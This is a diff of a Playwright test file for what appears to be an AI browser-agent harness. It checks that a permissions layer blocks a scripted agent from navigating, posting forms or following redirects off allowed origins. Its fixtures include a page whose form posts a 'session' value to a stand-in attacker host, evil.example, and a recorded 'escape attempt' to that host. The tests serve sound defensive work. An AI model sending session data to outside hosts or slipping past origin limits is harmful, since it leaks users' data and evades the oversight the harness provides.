@@ -1,5 +1,3 @@
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { BrowserContext } from '@playwright/test';
 import { upvoteFirstPost } from '../src/sites/hn/suite.ts';
 import { defineLayer } from '../src/harness/layer.ts';
@@ -18,6 +16,7 @@ import { summarize } from '../src/report/summarize.ts';
 import type { AttachedRunRecord } from '../src/report/types.ts';
 import { DEFAULT_INJECTION, HN_ORIGIN } from '../src/sites/hn/options.ts';
 import { recordedHn } from '../src/sites/hn/site.ts';
+import { routeSite } from '../src/sites/route.ts';
 import { expect, attachedRunRecord, test, turnsDouble } from './support.ts';
 
 const FIRST = '46194762'; // rank 1 in the fixture pages
@@ -118,9 +117,11 @@ test.describe('permissions', () => {
     expect(events(guarded, 'tool_result').find((event) => event.name === 'current_url')!.output).toEqual({ url: NEWS });
     expect(context.pages().at(-1)!.url()).toBe(NEWS);
     expect(hits).toEqual([]);
-    // The same turns with no layer do reach it: what the layer prevents.
-    await run(context, turnsDouble(turns).model, []);
-    expect(hits).toEqual([EVIL]);
+    // The same turns with no layer are refused all the same, by the run's browser itself: an escape attempt, not the layer's denial.
+    const bare = await run(context, turnsDouble(turns).model, []);
+    expect(events(bare, 'harness_denied')).toEqual([]);
+    expect(bare.escapes?.attempts).toEqual([{ kind: 'browser', detail: EVIL }]);
+    expect(hits).toEqual([]);
   });
 
   test('origins are an option: only the listed ones are allowed', async ({ context }) => {
@@ -141,37 +142,27 @@ test.describe('permissions hold on the browser\'s traffic, however the page woul
     expect(events(result, 'tool_result').find((event) => event.name === 'current_url')!.output).toEqual({ url: NEWS });
   });
 
-  test('a form posting off the allowed origins is blocked (nothing reaches it); a redirect off them is denied and taken back', async ({ context }) => {
+  test('a form posting off the allowed origins is blocked (nothing reaches it); a redirect off them is denied', async ({ context }) => {
     const hits = await attacker(context);
     const landed: string[] = [];
-    const server = createServer((request, response) => {
-      if (request.url === '/form') {
-        response.setHeader('content-type', 'text/html');
-        response.end(`<title>Form</title><form action="${EVIL}" method="post"><input name="q" value="session"><button id="send">Send</button></form>`);
-      } else if (request.url === '/go') {
-        response.writeHead(302, { location: `http://localhost:${port}/landed` }).end();
-      } else {
-        landed.push(request.url ?? '');
-        response.end('landed');
-      }
-    });
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    const port = (server.address() as AddressInfo).port;
-    const local = `http://127.0.0.1:${port}`;
-    try {
-      const turns = [call('navigate', { url: `${local}/form` }), call('click', { selector: '#send' }), call('navigate', { url: `${local}/go` }), call('current_url'), finish(false, 'stayed')];
-      const result = await run(context, turnsDouble(turns).model, [permissions({ origins: [HN_ORIGIN, local] })]);
-      expect(events(result, 'harness_denied').map((event) => [event.tool, event.reason.replace(/ is outside the allowed.*/, '')])).toEqual([
-        ['click', "the page's navigation to https://evil.example"],
-        ['navigate', `the page went to http://localhost:${port} (a redirect), outside the allowed origins (${HN_ORIGIN}, ${local}); the harness took it back to ${local}/form`],
-      ]);
-      expect(hits).toEqual([]);
-      // Playwright cannot intercept a redirect's hop: its request was sent, but the browser does not stay there.
-      expect(landed).toEqual(['/landed']);
-      expect(events(result, 'tool_result').find((event) => event.name === 'current_url')!.output).toEqual({ url: `${local}/form` });
-    } finally {
-      server.close();
-    }
+    await context.route('https://elsewhere.example/**', (route) => (landed.push(route.request().url()), route.fulfill({ body: 'landed' })));
+    // The site's own pages: a form posting to the attacker, and a redirect off the site.
+    const base = recordedHn();
+    const handler = async (request: Request) => {
+      const { pathname } = new URL(request.url);
+      if (pathname === '/form') return new Response(`<title>Form</title><form action="${EVIL}" method="post"><input name="q" value="session"><button id="send">Send</button></form>`, { headers: { 'content-type': 'text/html' } });
+      if (pathname === '/go') return new Response(null, { status: 302, headers: { location: 'https://elsewhere.example/landed' } });
+      return base.replica.handle(request);
+    };
+    const site = { ...base, serve: undefined, fetch: handler, attach: (target: BrowserContext) => routeSite(target, handler, HN_ORIGIN) };
+    const turns = [call('navigate', { url: `${HN_ORIGIN}/form` }), call('click', { selector: '#send' }), call('navigate', { url: `${HN_ORIGIN}/go` }), call('current_url'), finish(false, 'stayed')];
+    const result = await run(context, turnsDouble(turns).model, [permissions()], site);
+    expect(events(result, 'harness_denied').map((event) => [event.tool, event.reason.replace(/ is outside the allowed.*/, '')])).toEqual([
+      ['click', "the page's navigation to https://evil.example"],
+      ['navigate', "the page's redirect to https://elsewhere.example"],
+    ]);
+    expect([hits, landed]).toEqual([[], []]);
+    expect(events(result, 'tool_result').find((event) => event.name === 'current_url')!.output).toEqual({ url: `${HN_ORIGIN}/form` });
   });
 });
 
